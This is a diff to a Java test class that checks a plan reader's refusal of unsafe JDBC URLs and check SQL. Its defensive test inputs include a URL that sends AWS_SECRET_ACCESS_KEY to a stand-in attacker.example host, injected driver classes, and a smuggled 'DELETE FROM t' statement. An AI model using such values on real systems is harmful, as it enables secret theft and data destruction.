@@ -30,7 +30,7 @@ class PlanReaderJdbcTest {
         - { name: canary, percent: 10, soak: 1h, gates: [rate] }
       """;
 
-  private static List<String> problems(String url, PlanReader.Rules rules) {
+  private static List<String> urlProblems(String url, PlanReader.Rules rules) {
     try {
       PlanReader.fromTree(PlanReader.parseTree(PLAN.formatted(url)), rules);
       return List.of();
@@ -41,7 +41,7 @@ class PlanReaderJdbcTest {
 
   @Test
   void aNewPlanWithAPasswordOrAClassInItsJdbcUrlIsRefusedAtItsPath() {
-    assertThat(problems("jdbc:postgresql://db.internal/app?password=hunter2&socketFactory=x.Evil",
+    assertThat(urlProblems("jdbc:postgresql://db.internal/app?password=hunter2&socketFactory=x.Evil",
         PlanReader.Rules.HARDENED)).containsExactly(
         "connections.db.postgres: parameter \"password\" is not written in the URL: give the connection's password:"
             + " ${env:NAME}",
@@ -50,7 +50,7 @@ class PlanReaderJdbcTest {
 
   @Test
   void aNewPlanWithASecretReferenceInItsJdbcUrlIsRefused() {
-    assertThat(problems("jdbc:postgresql://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/app",
+    assertThat(urlProblems("jdbc:postgresql://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/app",
         PlanReader.Rules.HARDENED)).containsExactly(
         "connections.db.postgres: a JDBC URL may not hold a ${...} reference: a secret never goes into a URL."
             + " Write the URL literally and give credentials as user: and password: ${env:NAME}");
@@ -59,14 +59,34 @@ class PlanReaderJdbcTest {
   @Test
   void aCutoverAlreadyRunningUnderOlderRulesStillReadsItsPlan() {
     // The worker refuses such a URL when it connects, whatever the rules: see SqlSource.
-    assertThat(problems("jdbc:postgresql://db.internal/app?sslfactory=x.Evil", PlanReader.Rules.CURRENT)).isEmpty();
-    assertThat(problems("${env:DB_URL}", PlanReader.Rules.CURRENT)).isEmpty();
+    assertThat(urlProblems("jdbc:postgresql://db.internal/app?sslfactory=x.Evil", PlanReader.Rules.CURRENT)).isEmpty();
+    assertThat(urlProblems("${env:DB_URL}", PlanReader.Rules.CURRENT)).isEmpty();
   }
 
   @Test
   void anAllowedUrlReadsCleanUnderTheNewestRules() {
-    assertThat(problems("jdbc:postgresql://h1:5432,[::1]:5433/app?sslmode=verify-full&targetServerType=primary",
+    assertThat(urlProblems("jdbc:postgresql://h1:5432,[::1]:5433/app?sslmode=verify-full&targetServerType=primary",
         PlanReader.Rules.NEWEST)).isEmpty();
+  }
+
+  @Test
+  void sqlTheFirstReleaseMiscountedIsRefusedUnderTheNewestRulesOnly() {
+    String plan = PLAN.formatted("jdbc:postgresql://db.internal/app").replace("\"SELECT 99 AS value\"",
+        "\"SELECT 99 AS value, E'\\\\'' ; DELETE FROM t -- '\"");
+    // E'\'' is one quote: PostgreSQL and the newest rules see two statements, the first release one.
+    assertThat(problems(plan, PlanReader.Rules.HARDENED)).containsExactly(
+        "checks.rate.query: one statement only: a check's SQL may not chain statements with ';'");
+    // A cutover started before keeps reading its plan; the worker refuses the query when it runs.
+    assertThat(problems(plan, PlanReader.Rules.CURRENT)).isEmpty();
+  }
+
+  private static List<String> problems(String plan, PlanReader.Rules rules) {
+    try {
+      PlanReader.fromTree(PlanReader.parseTree(plan), rules);
+      return List.of();
+    } catch (PlanException e) {
+      return e.problems().stream().map(Problem::toString).toList();
+    }
   }
 
   static Stream<Path> plansWithDatabases() throws IOException {
